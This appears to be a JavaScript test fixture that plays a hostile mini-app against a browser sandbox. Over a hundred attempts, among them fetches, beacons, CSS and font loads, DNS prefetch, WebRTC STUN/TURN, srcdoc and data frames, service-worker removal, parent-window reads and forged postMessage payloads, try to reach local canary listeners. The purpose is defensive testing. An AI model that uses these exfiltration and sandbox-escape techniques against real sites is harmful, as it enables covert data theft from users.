// A hostile mini-app: each attempt tries to reach a canary, or what is not the app's. `targets` says where the canaries listen:
// {http, ws, udp, names}. An attempt that returns "out" got at something without the network; all else the canaries tell.
// The page that plays (apps_hostile.mjs) calls `jail.run(names)`.

const { http, ws, udp, names } = window.targets;
/** @param {string} tag an address that says which attempt came through */
const at = (tag) => `${http}/${tag}`;
/** @param {string} tag a name that nobody may look up */
const name = (tag) => `leak-${tag}.${names}`;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** @param {string} tag @param {Record<string, string>} attributes @param {string} [text] */
function put(tag, attributes, text = "") {
	const element = document.createElement(tag);
	for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
	element.textContent = text;
	document.body.append(element);
	return element;
}

/** A frame, once it has loaded. */
async function framed(attributes) {
	const frame = document.createElement("iframe");
	for (const [key, value] of Object.entries(attributes)) frame.setAttribute(key, value);
	const loaded = new Promise((resolve) => {
		frame.addEventListener("load", resolve);
		setTimeout(resolve, 3000);
	});
	document.body.append(frame);
	await loaded;
	return frame;
}

/** Everything that a page whose policy was forgotten could do. */
async function escapeFrom(window, tag) {
	await window.fetch(at(tag), { mode: "no-cors" }).catch(() => undefined);
	const image = new window.Image();
	image.src = at(`${tag}-image`);
	await stun(window.RTCPeerConnection);
}

async function stun(Connection, urls = `stun:127.0.0.1:${udp}`) {
	const connection = new Connection({ iceServers: [{ urls, username: "u", credential: "c" }] });
	connection.createDataChannel("x");
	await connection.setLocalDescription(await connection.createOffer());
	await pause(1500);
}

const worker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));

/** @type {Record<string, () => unknown>} */
const attempts = {
	fetch: () => fetch(at("fetch")),
	"fetch no-cors": () => fetch(at("fetch-no-cors"), { mode: "no-cors" }),
	"fetch keepalive": () =>
		fetch(at("keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
	"fetch later": () => window.fetchLater?.(at("fetch-later"), { activateAfter: 0 }),
	"fetch of the server": () => fetch("/_matrix/client/versions").then((r) => r.ok && "out"),
	"fetch of the web app": () =>
		fetch(`${window.targets.server}/_causeway/v1/host`).then((r) => r.ok && "out"),
	xhr: () => {
		const request = new XMLHttpRequest();
		request.open("GET", at("xhr"));
		request.send();
	},
	"xhr that waits": () => {
		const request = new XMLHttpRequest();
		request.open("GET", at("xhr-sync"), false);
		request.send();
	},
	websocket: () => new WebSocket(`${ws}/websocket`),
	"websocket stream": () => window.WebSocketStream && new WebSocketStream(`${ws}/websocket-stream`),
	"event source": () => new EventSource(at("event-source")),
	beacon: () => navigator.sendBeacon(at("beacon"), "x"),
	webtransport: () => new WebTransport(`https://127.0.0.1:${udp}/webtransport`).ready,
	image: () => put("img", { src: at("image") }),
	"image by a name": () => put("img", { src: `http://${name("image")}/x` }),
	picture: () => put("img", { srcset: `${at("srcset")} 1x` }),
	video: () => put("video", { src: at("video"), poster: at("poster"), preload: "auto" }).load(),
	track: () =>
		put("video", {}).append(
			Object.assign(document.createElement("track"), { src: at("track"), default: true }),
		),
	audio: () => new Audio(at("audio")).play(),
	script: () => put("script", { src: at("script") }),
	module: () => import(at("module")),
	stylesheet: () => put("link", { rel: "stylesheet", href: at("stylesheet") }),
	"css import": () => put("style", {}, `@import url("${at("css-import")}");`),
	"css picture": () => put("div", { style: `background:url("${at("css-picture")}");height:9px` }),
	font: () => new FontFace("evil", `url("${at("font")}")`).load(),
	"css font": () =>
		put("style", {}, `@font-face{font-family:e;src:url("${at("css-font")}")} body{font-family:e}`),
	"svg picture": () =>
		put("img", {
			src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${at("svg-picture")}"/></svg>`,
		}),
	"svg use": () => (put("div", {}).innerHTML = `<svg><use href="${at("svg-use")}#a"/></svg>`),
	prefetch: () => put("link", { rel: "prefetch", href: at("prefetch") }),
	preload: () => put("link", { rel: "preload", as: "fetch", crossorigin: "", href: at("preload") }),
	modulepreload: () => put("link", { rel: "modulepreload", href: at("modulepreload") }),
	prerender: () => put("link", { rel: "prerender", href: at("prerender") }),
	icon: () => put("link", { rel: "icon", href: at("icon") }),
	manifest: () => put("link", { rel: "manifest", href: at("manifest") }),
	speculation: () =>
		put(
			"script",
			{ type: "speculationrules" },
			JSON.stringify({
				prefetch: [{ source: "list", urls: [at("speculation")], eagerness: "immediate" }],
				prerender: [{ source: "list", urls: [at("speculation-prerender")], eagerness: "immediate" }],
			}),
		),
	"dns prefetch": () => put("link", { rel: "dns-prefetch", href: `//${name("dns-prefetch")}` }),
	preconnect: () => put("link", { rel: "preconnect", href: at("preconnect") }),
	"preconnect by a name": () => put("link", { rel: "preconnect", href: `https://${name("preconnect")}` }),
	"a link that is looked up ahead": () => put("a", { href: `http://${name("anchor")}/` }, "x"),
	frame: () => framed({ src: at("frame") }),
	object: () => put("object", { data: at("object") }),
	embed: () => put("embed", { src: at("embed") }),
	"form into a frame": async () => {
		put("iframe", { name: "target" });
		const form = put("form", { action: at("form"), method: "post", target: "target" });
		form.submit();
	},
	"link into a frame": () => {
		put("iframe", { name: "linked" });
		put("a", { href: at("link-frame"), target: "linked" }).click();
	},
	ping: () => {
		const link = put("a", { href: "#", ping: at("ping") });
		link.click();
	},
	"new window": () => open(at("window"), "_blank"),
	"the browser's own open": () => {
		const frame = put("iframe", {});
		return frame.contentWindow.open(at("window-frame")) && "out";
	},
	"link to a new window": () => put("a", { href: at("blank"), target: "_blank", rel: "opener" }).click(),
	"top goes elsewhere": () => {
		top.location = at("top");
	},
	"parent goes elsewhere": () => {
		parent.location.href = at("parent");
	},
	"reads the parent": () => parent.document.body.innerHTML && "out",
	"reads the parent's storage": () => parent.localStorage.length >= 0 && "out",
	"calls the parent's story": () => parent.story && "out",
	"worker fetches": async () => {
		worker(`fetch("${at("worker-fetch")}",{mode:"no-cors"})`);
		await pause(500);
	},
	"worker imports": async () => {
		worker(`importScripts("${at("worker-import")}")`);
		await pause(500);
	},
	"worker of another origin": () => new Worker(at("worker")),
	"shared worker fetches": () => new SharedWorker("worker.js?shared"),
	"worker of the app fetches": () => new Worker("worker.js"),
	"a service worker of its own": () => navigator.serviceWorker.register("evil-sw.js").then(() => "out"),
	"a service worker from a blob": () =>
		navigator.serviceWorker
			.register(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })))
			.then(() => "out"),
	"background fetch": async () => {
		const registration = await navigator.serviceWorker.ready;
		await registration.backgroundFetch.fetch("x", [at("background-fetch")]);
	},
	"a missing page": async () => {
		const frame = await framed({ src: "/missing" });
		await escapeFrom(frame.contentWindow, "missing");
	},
	"a malformed address": async () => {
		const frame = await framed({ src: "/%zz%00" });
		await escapeFrom(frame.contentWindow, "malformed");
	},
	"an address that is too long": async () => {
		const frame = await framed({ src: `/${"a".repeat(100_000)}` });
		await escapeFrom(frame.contentWindow, "too-long");
	},
	"a text page": async () => {
		const frame = await framed({ src: "note.txt" });
		await escapeFrom(frame.contentWindow, "text");
	},
	"a picture page": async () => {
		const frame = await framed({ src: "picture.svg" });
		await escapeFrom(frame.contentWindow, "svg-page");
	},
	"a pdf page": async () => {
		const frame = await framed({ src: "paper.pdf" });
		await escapeFrom(frame.contentWindow, "pdf");
	},
	"the server's own page": async () => {
		const frame = await framed({ src: "/-/probe" });
		await escapeFrom(frame.contentWindow, "own-page");
	},
	"a blob page": async () => {
		const page = new Blob([`<script>fetch("${at("blob-page")}",{mode:"no-cors"})</script>`], {
			type: "text/html",
		});
		await framed({ src: URL.createObjectURL(page) });
	},
	"a data page": () =>
		framed({ src: `data:text/html,<script>fetch("${at("data-page")}",{mode:"no-cors"})</script>` }),
	"a page in an attribute": () =>
		framed({ srcdoc: `<script>fetch("${at("srcdoc")}",{mode:"no-cors"})</script>` }),
	"a page with its own policy": () =>
		framed({
			srcdoc: `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${at("meta-policy")}">`,
		}),
	"a page that goes elsewhere": () =>
		framed({ srcdoc: `<meta http-equiv="refresh" content="0;url=${at("frame-refresh")}">` }),
	"an empty page": async () => {
		const frame = put("iframe", {});
		await frame.contentWindow.fetch(at("blank-fetch"), { mode: "no-cors" });
	},
	"a base of its own": () => {
		put("base", { href: `${http}/base/` });
		put("img", { src: "based" });
	},
	"another app's page": async () => {
		const frame = await framed({
			src: `${location.protocol}//aaaaaaaaaaaaaaaaaaaaaaaaaa.localhost:${location.port}/`,
		});
		return frame.contentWindow.document?.body?.textContent && "out";
	},
	"another app's cookie": () => {
		// biome-ignore lint/suspicious/noDocumentCookie: that is what it tries
		document.cookie = "shared=1; domain=localhost";
		return document.cookie.includes("shared") && "out";
	},
	clipboard: () => navigator.clipboard.readText().then(() => "out"),
	"camera and microphone": () =>
		navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => "out"),
	screen: () => navigator.mediaDevices.getDisplayMedia().then(() => "out"),
	place: () =>
		new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("out"), resolve)),
	notifications: () => Notification.requestPermission().then((answer) => answer === "granted" && "out"),
	usb: () => navigator.usb.requestDevice({ filters: [] }).then(() => "out"),
	payment: () =>
		new PaymentRequest([{ supportedMethods: at("payment") }], {
			total: { label: "x", amount: { currency: "EUR", value: "1" } },
		}).show(),
	"sign-in by another site": () =>
		navigator.credentials.get({ identity: { providers: [{ configURL: at("fedcm"), clientId: "x" }] } }),
	"forged message": () => {
		for (const message of [{ type: "m.login" }, "causeway", { action: "setState" }])
			parent.postMessage(message, "*");
	},
	"forged port": async () => {
		const { port1, port2 } = new MessageChannel();
		parent.postMessage("causeway", "*", [port2]);
		for (const message of [
			null,
			5,
			[],
			{ type: "eval", code: "1" },
			{ type: "sendUpdate", update: "{" },
			{ type: "__proto__" },
		])
			port1.postMessage(message);
		port1.postMessage({ type: "link", href: "javascript:alert(1)" });
		await pause(500);
	},
	stun: () => stun(RTCPeerConnection),
	turn: () => stun(RTCPeerConnection, `turn:127.0.0.1:${udp}?transport=udp`),
	"turn over tcp": () => stun(RTCPeerConnection, `turn:127.0.0.1:${new URL(http).port}?transport=tcp`),
	"stun by a name": () => stun(RTCPeerConnection, `stun:${name("stun")}`),
	// These end the app or its page; who plays opens it again.
	download: () => put("a", { href: at("download"), download: "x" }).click(),
	"goes elsewhere": () => {
		location.href = at("self");
	},
	"goes elsewhere by a name": () => {
		location.href = `http://${name("self")}/`;
	},
	"refreshes to elsewhere": () => put("meta", { "http-equiv": "refresh", content: `0;url=${at("refresh")}` }),
	"submits a form": () => put("form", { action: at("self-form") }).submit(),
	"without its service worker": async () => {
		for (const registration of await navigator.serviceWorker.getRegistrations())
			await registration.unregister();
		for (const path of [
			"/missing",
			"/",
			`/${"a".repeat(100_000)}`,
			`/?${"b".repeat(300_000)}`,
			"/%zz",
			"/index.html",
		]) {
			const frame = await framed({ src: path });
			await escapeFrom(frame.contentWindow, "no-worker").catch(() => undefined);
		}
		await navigator.serviceWorker.register("evil-sw.js").catch(() => undefined);
	},
	"without its service worker, by cookies": async () => {
		for (const registration of await navigator.serviceWorker.getRegistrations())
			await registration.unregister();
		// biome-ignore lint/suspicious/noDocumentCookie: that is what it tries
		for (let i = 0; i < 170; i += 1) document.cookie = `c${i}=${"x".repeat(3900)}`;
		const frame = await framed({ src: "/missing" });
		await escapeFrom(frame.contentWindow, "cookies");
	},
	"webrtc of an empty page": async () => {
		const frame = put("iframe", {});
		await stun(frame.contentWindow.RTCPeerConnection);
	},
	"webrtc of a page in an attribute": async () => {
		const frame = await framed({ srcdoc: "x" });
		await stun(frame.contentWindow.RTCPeerConnection);
	},
	"webrtc of a page whose own was deleted": async () => {
		delete window.RTCPeerConnection;
		const frame = await framed({ src: "note.txt" });
		await stun(frame.contentWindow.RTCPeerConnection);
	},
};

window.jail = {
	names: Object.keys(attempts),
	/** What came of each: "out", or what the browser said. @param {string[]} wanted */
	async run(wanted) {
		/** @type {Record<string, string>} */
		const results = {};
		for (const one of wanted) {
			const attempt = attempts[one];
			try {
				const got = await Promise.race([attempt(), pause(2500)]);
				results[one] = got === "out" ? "out" : "nothing";
			} catch (error) {
				results[one] = String(error?.name ?? error);
			}
		}
		await pause(100);
		return results;
	},
};
